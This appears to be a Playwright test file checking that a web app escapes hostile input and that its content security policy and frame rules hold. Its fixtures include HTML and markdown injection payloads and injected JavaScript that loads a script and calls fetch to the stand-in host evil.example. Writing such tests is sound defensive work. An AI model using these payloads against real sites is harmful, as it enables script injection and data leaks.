"""What a stranger's link or a server that was away may not do to a page."""

from __future__ import annotations

import re
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser

from bench.server import Server
from tests.browser.test_browser import slider

if TYPE_CHECKING:
    from tests.browser.conftest import Watched

PICTURE = "![p](//evil.example/p.png)"
MORE = (
    f"{PICTURE} [Sign in](https://evil.example/in) $x^2$ :red[now] :material/home: www.evil.example "
    "a@evil.example https://evil.example/bare"
)


@pytest.mark.parametrize(
    ("path", "told"),
    [
        (f"evidence?look=sources&month={quote(MORE)}", "month="),
        (f"gap?{quote(MORE)}=1", "not known here"),
        (f"what_if?nc=50&made_with={quote(PICTURE)}:2026-12:5", "made_with="),
        ("what_if?nc=50&made_with=www.evil.example:2026-12:5", "made with record www"),
        (f"briefing?story=own&pin={quote(PICTURE)}|nc=70", "Note for A"),
        (f"what_if?panel=compare&pin={quote(PICTURE)}|nc=70", "A: !"),
        (f"map?country={quote(MORE)}", "country="),
        (f"ramp_up?as_of={quote(MORE)}", "as_of="),
        (f"plant?site={quote(MORE)}", "site="),
    ],
    ids=["value", "name", "version", "address", "note", "pin", "filter", "date", "plant"],
)
def test_a_hostile_link_fetches_nothing_and_links_nowhere(
    watched: Watched, path: str, told: str
) -> None:
    page = watched.open(path)
    page.get_by_text(told).first.wait_for()
    assert watched.outside == []
    assert page.locator("body [href*=evil], [src*=evil]").count() == 0
    # What describes the page to others (oEmbed) is ours, with the page's address as a value of its query.
    described = page.locator("head [href*=evil]").evaluate_all("links => links.map(l => l.href)")
    assert all(
        address.startswith(f"{watched.base.rstrip('/')}/oembed?url=http") for address in described
    )
    alerts = page.locator("[data-testid=stAlert]")
    assert (
        alerts.locator(".katex, [data-testid=stIconMaterial], span[style*=color], a").count() == 0
    )


@pytest.mark.parametrize("query", ["<img src=//evil.example/p.png>", MORE[:80]])
def test_a_hostile_search_says_only_itself(watched: Watched, query: str) -> None:
    page = watched.open("gap")
    page.get_by_label("Find a plant, a maker or a town").fill(query)
    page.keyboard.press("Enter")
    page.get_by_text("No plant, maker or town is called").wait_for()
    watched.settle()
    assert watched.outside == []
    answers = page.locator(".st-key-plant_search .answers")
    assert answers.locator("a, img, .katex, [data-testid=stIconMaterial]").count() == 0


def test_a_hostile_pin_says_only_itself_where_its_picture_is_taken_away(watched: Watched) -> None:
    page = watched.open("what_if?panel=compare&pin=https://evil.example|nc=70")
    page.locator(".st-key-save_compare_A").get_by_role("button").first.click()
    page.get_by_text("In words.").wait_for()
    watched.settle()
    assert watched.outside == []
    assert page.locator("body [href*=evil], [src*=evil]").count() == 0


STORY = f"""
title = '{MORE}'
about = '{MORE}'
[[screens]]
title = '{MORE}'
picture = 'slips'
page = 'evidence'
note = '{MORE} <img src=//evil.example/n.png>'
"""
LESSON = f"""
title = '{MORE}'
about = '{MORE}'
minutes = 5
[[steps]]
kind = 'read'
title = '{MORE}'
text = '{MORE} <img src=//evil.example/n.png>'
"""
ROW = f"""event_id,line_id,reported_on,event,date,status,rate,unit,rate_status,basis
my-1,unterluess-rheinmetall--round,2026-05-01,rate,2026-04,done,250000,rounds/yr,done,"{MORE} <img src=//evil.example/n.png>"
"""


@pytest.mark.parametrize(
    ("path", "name", "content", "told"),
    [
        ("briefing?story=own", "own.toml", STORY, "from your file"),
        pytest.param("learn", "own.toml", LESSON, "Sign in", marks=pytest.mark.nightly),
        pytest.param("evidence?look=yours", "own.csv", ROW, "", marks=pytest.mark.nightly),
        pytest.param("briefing?story=own", "a.toml", f"x = '{MORE}", "", marks=pytest.mark.nightly),
    ],
    ids=["story", "lesson", "row", "broken"],
)
def test_a_hostile_file_says_only_itself(
    watched: Watched, tmp_path: Path, path: str, name: str, content: str, told: str
) -> None:
    page = watched.open(path)
    (tmp_path / name).write_text(content, encoding="utf-8")
    page.locator("[data-testid=stFileUploader] input[type=file]").set_input_files(tmp_path / name)
    watched.settle()
    if name.endswith(".csv"):
        page.get_by_role("button", name="Check and use").click()
        watched.settle()
        assert page.get_by_text("is on the record in this session").is_visible()
        page.get_by_label("Find a plant, a maker or a town").click()
        page.keyboard.type("unterluess")
        page.get_by_role("option", name=re.compile("Rheinmetall Unterlüß")).wait_for()
        page.keyboard.press("Enter")
        page.wait_for_url(re.compile("/plant"))
        watched.settle()
    elif told:
        page.get_by_text(told).first.wait_for()
    assert_harmless(watched)
    if told == "from your file":
        page.keyboard.press("p")  # and on the wall
        watched.settle()
        assert page.get_by_text("Sign in").count() > 0
        assert_harmless(watched)


def test_a_hostile_note_says_only_itself(watched: Watched) -> None:
    page = watched.open("briefing?story=own&pin=mine|nc=70")
    page.get_by_label("Note for A").fill(MORE)
    page.keyboard.press("Enter")
    watched.settle()
    assert_harmless(watched)


def assert_harmless(watched: Watched) -> None:
    """Nothing was asked of anybody, and nothing stands there that would ask when it is clicked."""
    assert watched.outside == []
    # A heading's own anchor leads to itself.
    leading = watched.page.locator(
        "body [href*=evil]:not([href^='#']), [src*=evil], [srcset*=evil]"
    )
    assert leading.count() == 0
    main = watched.page.locator("[data-testid=stMain]")
    assert main.locator(".katex, img[alt=p], span[style*=color]:text('now')").count() == 0


def test_what_was_set_while_the_server_was_away_stands_in_the_address(browser: Browser) -> None:
    with Server("app.py") as first:
        page = browser.new_page()
        page.goto(f"{first.url}/what_if?nc=75")
        slider(page).wait_for(timeout=60_000)
        page.get_by_role("heading", name=re.compile("At 75 %")).wait_for(timeout=60_000)
        first.process.kill()
        first.process.wait()
        slider(page).fill("80")
        with Server("app.py", port=first.port):
            page.wait_for_url(re.compile(r"nc=80"), timeout=60_000)
            assert slider(page).input_value() == "80"
        page.close()


INJECTED = """() => new Promise(tell => {
  const blocked = []
  document.addEventListener("securitypolicyviolation", event => {
    blocked.push(event.effectiveDirective)
  })
  setTimeout(() => tell({ blocked: [...new Set(blocked)].sort(), ran: window.injected ?? "no" }), 1000)
  const script = document.createElement("script")
  script.textContent = "window.injected = 'inline'"
  const foreign = document.createElement("script")
  foreign.src = "https://evil.example/x.js"
  const picture = document.createElement("img")
  picture.src = "https://evil.example/x.png"
  const frame = document.createElement("iframe")
  frame.src = "https://evil.example/"
  document.body.append(script, foreign, picture, frame)
  fetch("https://evil.example/").catch(() => {})
  setTimeout("window.injected = 'text'")
})"""


def test_what_gets_into_a_page_all_the_same_neither_runs_nor_calls_out(watched: Watched) -> None:
    """The second wall, behind the escaping: the content security policy."""
    page = watched.open("what_if")
    result = page.evaluate(INJECTED)
    assert result == {
        "blocked": ["connect-src", "frame-src", "img-src", "script-src", "script-src-elem"],
        "ran": "no",
    }


def test_nobody_else_may_frame_a_page(watched: Watched) -> None:
    page = watched.page
    with page.expect_console_message(lambda said: "frame-ancestors" in said.text, timeout=30_000):
        page.set_content(f"<iframe src='{watched.base}/what_if'></iframe>")
    assert page.frames[1].url.startswith("chrome-error:")
